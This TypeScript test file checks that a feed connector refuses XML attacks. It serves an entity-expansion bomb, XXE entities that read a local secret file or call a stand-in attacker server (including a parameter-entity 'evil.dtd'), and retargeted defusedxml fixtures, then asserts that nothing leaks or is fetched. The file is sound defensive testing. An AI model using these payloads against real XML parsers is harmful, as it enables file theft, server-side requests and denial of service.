// defusedxml's attack files served as feeds: entity bombs, external entities to local files
// and URLs, DTD tricks. Each must be refused or parsed without expansion, and nothing may
// be read from disk or fetched (a second local server stands in for the attacker's URL).
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pollFeed, type PollResult } from '../../src/connectors/inbound/feeds';
import { requireFixtures } from '../support/fixtures';

const SECRET = 'SEGRETO-LOCALE-7f3a';
let tmp: string;
let secretFile: string;
let feedServer: http.Server;
let attacker: http.Server;
let feedBase = '';
let attackerBase = '';
const attackerHits: string[] = [];
const docs = new Map<string, string>();

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'vedetta-xxe-'));
  secretFile = join(tmp, 'secret.xml');
  writeFileSync(secretFile, `<secret>${SECRET}</secret>`);

  attacker = http.createServer((req, res) => {
    attackerHits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'application/xml' }).end(`<!ENTITY leak "${SECRET}">`);
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerBase = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  feedServer = http.createServer((req, res) => {
    const body = docs.get(decodeURIComponent((req.url ?? '/').slice(1)));
    if (body === undefined) return void res.writeHead(404).end();
    res.writeHead(200, { 'Content-Type': 'application/rss+xml' }).end(body);
  });
  await new Promise<void>((r) => feedServer.listen(0, '127.0.0.1', r));
  feedBase = `http://127.0.0.1:${(feedServer.address() as AddressInfo).port}`;

  // The same attacks inside a real RSS document, where a parser would otherwise accept them.
  const rss = (dtd: string, title: string): string =>
    `<?xml version="1.0"?>\n${dtd}\n<rss version="2.0"><channel><title>T</title><item><guid>1</guid><title>${title}</title><description>x</description></item></channel></rss>`;
  docs.set('rss/bomb', rss(`<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>`, '&d;&d;&d;'));
  docs.set('rss/xxe-file', rss(`<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://${secretFile}">]>`, '&xxe;'));
  docs.set('rss/xxe-url', rss(`<!DOCTYPE rss [<!ENTITY xxe SYSTEM "${attackerBase}/xxe">]>`, '&xxe;'));
  docs.set('rss/xxe-parameter', rss(`<!DOCTYPE rss [<!ENTITY % ext SYSTEM "${attackerBase}/evil.dtd"> %ext;]>`, '&leak;'));
  docs.set('rss/lowercase-doctype', rss(`<!doctype rss [<!entity xxe SYSTEM "file://${secretFile}">]>`, '&xxe;'));
  // An external DTD without entity declarations (RSS 0.91's kind): parsed, never fetched.
  docs.set('rss/external-dtd', rss(`<!DOCTYPE rss SYSTEM "${attackerBase}/rss-0.91.dtd">`, 'Caff&egrave; &amp; cornetto'));
});

afterAll(async () => {
  await Promise.all([feedServer, attacker].filter(Boolean).map((s) => new Promise<void>((r) => s.close(() => r()))));
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

// Points every external reference at our stand-ins so a fetch or a file read would show.
function retarget(s: string): string {
  return s
    .replace(/http:\/\/www\.w3schools\.com\/xml\/note\.xml/g, `${attackerBase}/note.xml`)
    .replace(/file:\/\/\/PATH\/TO\/xmltestdata\/simple\.xml/g, `file://${secretFile}`)
    .replace(/https?:\/\/(?:www\.w3\.org|example\.invalid)\/[^"']*/g, (m) => `${attackerBase}/w3/${encodeURIComponent(m)}`);
}

async function poll(name: string): Promise<PollResult> {
  return pollFeed(`${feedBase}/${encodeURIComponent(name)}`, { timeoutMs: 5_000 });
}

function noLeak(r: PollResult): void {
  const dump = JSON.stringify(r.status === 'error' ? { kind: r.error.kind, message: r.error.message } : r);
  expect(dump).not.toContain(SECRET);
  expect(dump).not.toContain('aaaaaaaaaaaaaaaaaaaa');
}

describe('XML attacks in feeds', () => {
  it('every defusedxml file is refused or parsed without expansion, with nothing fetched', async () => {
    // Only this test reads the shared fixtures: without them it fails, the others still run.
    const defused = requireFixtures('feeds/defusedxml');
    for (const f of readdirSync(defused).filter((n) => n !== 'LICENSE')) {
      docs.set(`defused/${f}`, retarget(readFileSync(join(defused, f), 'utf8')));
    }
    const outcome: Record<string, string> = {};
    for (const name of [...docs.keys()].filter((k) => k.startsWith('defused/'))) {
      const r = await poll(name);
      noLeak(r);
      outcome[name] = r.status === 'error' ? `${r.error.kind}: ${r.error.message}` : `ok (${r.status === 'ok' ? r.feed.items.length : 0} items)`;
      if (/<!ENTITY/i.test(docs.get(name)!)) {
        expect(r.status === 'error' && r.error.kind, name).toBe('dtd_refused');
        if (r.status === 'error') expect(r.error.message).toBe('il feed contiene entità DTD: rifiutato per sicurezza');
      } else {
        // Not feeds at all (XSLT, XSD, plain XML): a clear error, never a crash.
        expect(r.status, name).toBe('error');
        if (r.status === 'error') expect(['not_a_feed', 'bad_xml']).toContain(r.error.kind);
      }
    }
    console.log('[feeds-defused]', JSON.stringify(outcome, null, 1));
    expect(attackerHits).toEqual([]);
  });

  it('bombs and external entities inside RSS are refused, nothing read or fetched', async () => {
    for (const name of ['rss/bomb', 'rss/xxe-file', 'rss/xxe-url', 'rss/xxe-parameter', 'rss/lowercase-doctype']) {
      const r = await poll(name);
      noLeak(r);
      expect(r.status === 'error' && r.error.kind, name).toBe('dtd_refused');
    }
    expect(attackerHits).toEqual([]);
  });

  it('an external DTD without entity declarations is parsed without fetching it', async () => {
    const r = await poll('rss/external-dtd');
    if (r.status !== 'ok') throw new Error(r.status === 'error' ? r.error.message : r.status);
    // &egrave; is an HTML entity the DTD would have defined: sax knows HTML's names itself.
    expect(r.feed.items[0]?.title).toBe('Caffè & cornetto');
    expect(attackerHits).toEqual([]);
  });
});
